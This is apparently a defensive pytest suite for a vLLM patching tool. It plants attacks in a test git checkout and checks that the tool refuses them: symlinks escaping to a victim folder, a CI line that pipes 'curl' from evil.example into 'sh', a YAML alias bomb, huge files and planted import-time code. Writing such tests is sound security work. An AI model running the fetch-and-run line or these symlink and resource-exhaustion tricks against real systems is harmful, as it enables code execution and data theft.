"""Issue 26: a vLLM fork someone else prepared cannot turn `vllm-patch pr`,
`doctor --fix` or `serve` against its user.

Each attack is a row: planted into a small git checkout made here from the
fixtures (the fixture vLLM tree, vLLM 0.32.0's tests, CI YAML and PR template),
beside a victim folder that must stay byte for byte as it was after every
command, whose secret must appear in no output, within 10 s, without a
traceback; a refusal leaves the checkout as it was. `pr --no-tests` needs no
vLLM: these are fast-tier tests."""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import git
import pytest

from vllm_patch import cli
from vllm_patch.upstream.meta import pick_patch, upstream_of

FIXTURES = Path(__file__).parent / "fixtures"
UPSTREAM = upstream_of(pick_patch("cpu_fused_norms"))
CI = UPSTREAM.ci.file
TEMPLATE = ".github/PULL_REQUEST_TEMPLATE.md"
SECRET = "aws_access_key_id = AKIAVICTIMSECRET0001"
MBOX = "0001-CPU-Kernel-Enable-vLLM-C-fused-RMSNorm-kernels-on-CP.patch"
GIB = 1 << 30


@pytest.fixture(autouse=True)
def isolated_git(tmp_path_factory, monkeypatch):
    """No global or system git config: identities come from each test repo."""
    home = tmp_path_factory.mktemp("home")
    (home / "gitconfig").write_text("")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(home / "gitconfig"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")


def make_checkout(root: Path, with_tests: bool = False) -> git.Repo:
    """The fixture vLLM tree with vLLM 0.32.0's CI YAML and PR template (and,
    ``with_tests``, its tests), committed on ``main``."""
    shutil.copytree(FIXTURES / "vllm_tree", root)
    if with_tests:
        shutil.copytree(
            FIXTURES / "vllm_checkouts/upstream-v0.32.0/tests", root / "tests"
        )
    for rel, name in ((CI, "cpu.yaml"), (TEMPLATE, "PULL_REQUEST_TEMPLATE.md")):
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(FIXTURES / "upstream_files/v0.32.0" / name, root / rel)
    (root / "pyproject.toml").write_text("[tool.ruff]\nline-length = 88\n")
    repo = git.Repo.init(root, initial_branch="main")
    with repo.config_writer() as cfg:
        cfg.set_value("user", "name", "Ada Lovelace")
        cfg.set_value("user", "email", "ada@example.com")
    commit(repo)
    return repo


def commit(repo: git.Repo, message: str = "fork") -> None:
    repo.git.add("-A")
    repo.git.commit("-q", "--no-verify", "-m", message)


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every entry below ``folder``: its type and bytes (or link target)."""
    out = {}
    for dirpath, dirs, files in os.walk(folder):
        for name in dirs + files:
            path = Path(dirpath, name)
            if path.is_symlink():
                out[str(path)] = ("link", os.readlink(path))
            elif path.is_file():
                out[str(path)] = ("file", hashlib.sha256(path.read_bytes()).hexdigest())
            else:
                out[str(path)] = ("dir",)
    return out


def state(repo: git.Repo) -> tuple:
    """Everything a refused run must leave as it was."""
    return (
        repo.head.commit.hexsha,
        repo.head.is_detached or repo.active_branch.name,
        sorted(h.name for h in repo.heads),
        repo.git.status("--porcelain", "--ignored"),
    )


@dataclass(frozen=True)
class Fork:
    root: Path
    repo: git.Repo
    victim: Path

    def link(self, rel: str, target: str | Path, *, tracked: bool = True) -> None:
        path = self.root / rel
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.symlink_to(target)
        if tracked:
            commit(self.repo)

    def write(self, rel: str, data: bytes | str) -> None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
        commit(self.repo)

    def huge(self, rel: str) -> None:
        """``rel`` as a 1 GiB (sparse) file in the work tree: committed small,
        with git told not to look (hashing 1 GiB takes git over 10 s)."""
        self.write(rel, "steps: []\n")
        self.repo.git.update_index("--skip-worktree", rel)
        os.truncate(self.root / rel, GIB)


@dataclass(frozen=True)
class Attack:
    plant: Callable[[Fork], object]
    rc: int = 0
    says: str = ""
    """Words the output must hold (the refusal, the left-out reason)."""
    extra: tuple[str, ...] = ()
    check: Callable[[Fork, str], object] | None = None


def run(fork: Fork, capsys, *extra: str, print_body: bool = True) -> tuple[int, str]:
    before, cache = snapshot(fork.victim), os.path.lexists(fork.root / ".ruff_cache")
    start = time.monotonic()
    argv = ["pr", "--vllm", str(fork.root), "--patch", "cpu_fused_norms", "--no-tests"]
    rc = cli.main([*argv, *(["--print"] if print_body else []), *extra])
    took = time.monotonic() - start
    out, err = capsys.readouterr()
    assert snapshot(fork.victim) == before  # not a byte changed outside
    # A hang guard, not a speed goal: unbounded, the alias bomb runs for hours.
    assert took < 60, took
    text = out + err
    assert "Traceback" not in text and SECRET not in text
    assert os.path.lexists(fork.root / ".ruff_cache") == cache  # ruff wrote none
    return rc, text


def ci_step_line(fork: Fork, line: str) -> None:
    text = (fork.root / CI).read_text()
    anchor = "      tests/kernels/test_onednn.py \\\n"
    fork.write(CI, text.replace(anchor, anchor + line, 1))


def hook(fork: Fork, name: str, body: str) -> None:
    path = fork.root / ".git" / "hooks" / name
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)


def added(fork: Fork, rel: str) -> str:
    return fork.repo.git.diff("HEAD~1", "HEAD", "--", rel)


BOMB = "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))
NESTED = "[" * 5000 + "]" * 5000

ATTACKS = {
    # Writes outside the checkout.
    "untracked .cpu.yaml.new a link out": Attack(
        lambda f: f.link(
            CI.replace("cpu.yaml", ".cpu.yaml.new"), f.victim / "bashrc", tracked=False
        ),
        check=lambda f, _: os.path.islink(f.root / CI) is False,
    ),
    "committed .cpu.yaml.new a relative link out": Attack(
        lambda f: f.link(
            CI.replace("cpu.yaml", ".cpu.yaml.new"), "../../../victim/bashrc"
        ),
        check=lambda f, _: "mode change" not in f.repo.git.show("--summary", "HEAD"),
    ),
    ".buildkite/hardware_tests a link to an outside folder": Attack(
        lambda f: f.link(str(Path(CI).parent), f.victim / "ci"),
        says="left out: .buildkite/hardware_tests/cpu.yaml",
        check=lambda f, _: not added(f, CI),
    ),
    "an edited source a link inside the checkout": Attack(
        lambda f: (
            (f.root / "vllm/platforms/cpu.py").rename(f.root / "vllm/platforms/_c.py"),
            f.link("vllm/platforms/cpu.py", "_c.py"),
        ),
        rc=2,
        says="found: a link to vllm/platforms/_c.py",
    ),
    "the description a link out": Attack(
        lambda f: f.link(
            f".git/vllm-patch/PR_{UPSTREAM.branch}.md",
            f.victim / "bashrc",
            tracked=False,
        ),
        rc=2,
        says="never writes through a link",
    ),
    ".git/vllm-patch a link out": Attack(
        lambda f: f.link(".git/vllm-patch", f.victim, tracked=False), rc=2
    ),
    "[tool.ruff] cache-dir and .ruff_cache lead out": Attack(
        lambda f: (
            f.write(
                "pyproject.toml",
                f'[tool.ruff]\ncache-dir = "{f.victim}/cache"\n'
                'output-file = "../victim/out"\nfix = true\n',
            ),
            f.link(".ruff_cache", f.victim, tracked=False),
        ),
        check=lambda f, _: os.path.islink(f.root / ".ruff_cache"),
    ),
    "--out a link out": Attack(
        lambda f: (
            (f.victim.parent / "outs").mkdir()
            or (f.victim.parent / "outs/pr.md").symlink_to(f.victim / "bashrc")
        ),
        rc=2,
        extra=("--out", "{outs}/pr.md"),
    ),
    "--format-patch DIR with a link planted": Attack(
        lambda f: (
            (f.victim.parent / "outs").mkdir()
            or (f.victim.parent / "outs" / MBOX).symlink_to(f.victim / "bashrc")
        ),
        rc=3,
        extra=("--format-patch", "{outs}"),
    ),
    # Outside files leaked into published text.
    "the PR template a link out": Attack(
        lambda f: f.link(TEMPLATE, "../../victim/bashrc"),
        says="left out: .github/PULL_REQUEST_TEMPLATE.md",
    ),
    "cpu.yaml a link to an outside non-YAML file": Attack(
        lambda f: f.link(CI, f.victim / "bashrc"),
        says="left out",
        check=lambda f, _: not added(f, CI),
    ),
    "cpu.yaml a link to an outside YAML file": Attack(
        lambda f: f.link(CI, f.victim / "cpu.yaml"),
        says="left out",
        check=lambda f, _: "mode change" not in f.repo.git.show("--summary", "HEAD"),
    ),
    # Foreign text signed off as the user's.
    "a fork's $(curl ...) CI line": Attack(
        lambda f: ci_step_line(
            f, "      tests/kernels/x.py $(curl -s https://evil.example/x.sh | sh) \\\n"
        ),
        check=lambda f, _: (
            "curl"
            not in "".join(
                line for line in added(f, CI).splitlines() if line.startswith("+")
            )
            and "+      tests/kernels/ir/test_layernorm.py \\" in added(f, CI)
        ),
    ),
    # Hangs, memory, tracebacks.
    "a YAML alias bomb": Attack(
        lambda f: f.write(CI, "x: &a0 [1]\n" + BOMB + (f.root / CI).read_text()),
        says="left out",
    ),
    "an aliased step label": Attack(
        lambda f: f.write(
            CI, "x: &a0 [1]\n" + BOMB + "steps:\n- label: *a11\n  commands: []\n"
        ),
        says="left out",
    ),
    "a 1 GiB cpu.yaml": Attack(lambda f: f.huge(CI), says="file too large"),
    "a 1 GiB PR template": Attack(lambda f: f.huge(TEMPLATE), says="file too large"),
    "a 1 GiB .pre-commit-config.yaml": Attack(
        lambda f: f.huge(".pre-commit-config.yaml")
    ),
    "a template with 200,000 headings": Attack(
        lambda f: f.write(TEMPLATE, "## x\n" * 200_000), says="file too large"
    ),
    "a template with a 6 MB section": Attack(
        lambda f: f.write(TEMPLATE, "## Purpose\n" + "word " * 1_200_000),
        says="too large",
    ),
    "non-UTF-8 cpu.yaml": Attack(
        lambda f: f.write(CI, b"steps: \xff\n"), says="not UTF-8"
    ),
    "non-UTF-8 pyproject.toml": Attack(
        lambda f: f.write("pyproject.toml", b"[tool.ruff]\nx = '\xff'\n"),
        says="not UTF-8",
    ),
    "non-UTF-8 PR template": Attack(
        lambda f: f.write(TEMPLATE, b"## Purpose\n\xfe\n"), says="not UTF-8"
    ),
    "[ nested 5,000 deep in pyproject.toml": Attack(
        lambda f: f.write("pyproject.toml", f"[tool.ruff]\nx = {NESTED}\n"),
        says="pyproject.toml left out",
    ),
    "[ nested 5,000 deep in cpu.yaml": Attack(
        lambda f: f.write(CI, f"x: {NESTED}\n" + (f.root / CI).read_text()),
        says="left out: not YAML the safe loader reads",
    ),
    "a failing commit.gpgSign": Attack(
        lambda f: (
            f.repo.git.config("commit.gpgSign", "true"),
            f.repo.git.config("gpg.program", "false"),
        ),
        rc=2,
        says="git refused a step",
    ),
    "a failing prepare-commit-msg hook": Attack(
        lambda f: hook(f, "prepare-commit-msg", "exit 1"),
        rc=2,
        says="git refused a step",
    ),
    "a failing post-checkout hook": Attack(
        lambda f: hook(f, "post-checkout", "exit 1"), rc=2, says="git refused a step"
    ),
    "--branch @{-1}": Attack(lambda f: None, rc=2, extra=("--branch", "@{-1}")),
    "an unclosed <!-- in a section the tool does not fill": Attack(
        lambda f: f.write(
            TEMPLATE, "## Purpose\n\n## Changelog\n<!-- open\n\n## Test Plan\n"
        ),
        check=lambda f, out: "## Test Plan" in out and "<!-- open -->" in out,
    ),
    "NUL bytes in the template": Attack(
        lambda f: f.write(TEMPLATE, "## Purpose\n\0\n"),
        says="NUL",
        check=lambda f, out: "\0" not in out,
    ),
}


@pytest.fixture
def fork(tmp_path) -> Fork:
    victim = tmp_path / "victim"
    (victim / "ci").mkdir(parents=True)
    (victim / "bashrc").write_text(f'export PS1="$ "\n{SECRET}\n')
    (victim / "cpu.yaml").write_text(f"steps: []\nsecret: {SECRET!r}\n")
    shutil.copy(victim / "cpu.yaml", victim / "ci" / "cpu.yaml")
    root = tmp_path / "vllm"
    return Fork(root, make_checkout(root), victim)


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_a_planted_fork_cannot_turn_pr_against_its_user(fork, capsys, attack):
    attack.plant(fork)
    before = state(fork.repo)
    extra = [
        a.replace("{outs}", str(fork.victim.parent / "outs")) for a in attack.extra
    ]

    rc, out = run(fork, capsys, *extra)

    assert rc == attack.rc, out
    assert attack.says in out
    if rc:
        assert state(fork.repo) == before  # all or nothing
    else:
        assert fork.repo.head.commit.summary == UPSTREAM.title
        assert not fork.repo.is_dirty(untracked_files=False)
    if attack.check:
        assert attack.check(fork, out), out


def test_a_rerun_whose_parent_has_an_absolute_link_cpu_yaml(fork, capsys):
    fork.link(CI, fork.victim / "cpu.yaml")
    assert run(fork, capsys)[0] == 0
    tip = fork.repo.head.commit

    rc, out = run(fork, capsys)

    assert rc == 0 and "already committed" in out
    assert fork.repo.head.commit == tip
    body = (
        Path(fork.repo.git_dir) / "vllm-patch" / f"PR_{UPSTREAM.branch}.md"
    ).read_text()
    assert "not added to a CPU CI step" in body


def test_no_tests_runs_no_checkout_code(tmp_path, capsys):
    victim = tmp_path / "victim"
    victim.mkdir()
    root = tmp_path / "vllm"
    repo = make_checkout(root, with_tests=True)
    plant = f"open({str(victim / 'ran')!r}, 'w').write('ran')\n"
    for rel in ("tests/conftest.py", "tests/kernels/ir/conftest.py", "setup.py"):
        (root / rel).write_text(plant)
    commit(repo)

    rc, out = run(Fork(root, repo, victim), capsys)

    assert rc == 0 and "upstream tests: skipped (--no-tests)" in out
    assert not (victim / "ran").exists()
    body = (Path(repo.git_dir) / "vllm-patch" / f"PR_{UPSTREAM.branch}.md").read_text()
    assert "pytest tests/kernels/ir/test_layernorm.py" in body  # the reviewer's command


def test_python_m_serve_imports_no_planted_vllm(tmp_path):
    """`python -m vllm_patch` leaves the working folder off sys.path, as the
    console script does: a `vllm/` planted there is never imported."""
    (tmp_path / "vllm").mkdir()
    marker = tmp_path / "imported"
    (tmp_path / "vllm" / "__init__.py").write_text(f"open({str(marker)!r}, 'w')\n")
    subprocess.run(
        [sys.executable, "-m", "vllm_patch", "serve", "Qwen/Qwen3-0.6B"],
        cwd=tmp_path,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert not marker.exists()


@pytest.mark.parametrize("planted", ["evidence.json", "evidence.md", "."])
def test_bench_out_never_writes_through_a_planted_link(tmp_path, planted):
    """`bench --out DIR`: a link planted at a report's name (or DIR itself a
    link) is refused, never written through."""
    from patcher.errors import PatchError
    from vllm_patch.bench.evidence import BenchRun

    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "bashrc").write_text(SECRET)
    out = tmp_path / "out"
    if planted == ".":
        out.symlink_to(victim, target_is_directory=True)
    else:
        out.mkdir()
        (out / planted).symlink_to(victim / "bashrc")
    before = snapshot(victim)
    with pytest.raises(PatchError, match="link|not a regular file"):
        run = BenchRun(out, print)
        run.doc["vllm"] = {"base": "0.32.0", "patched": "0.32.0", "patch": "p"}
        run.save()
    assert snapshot(victim) == before
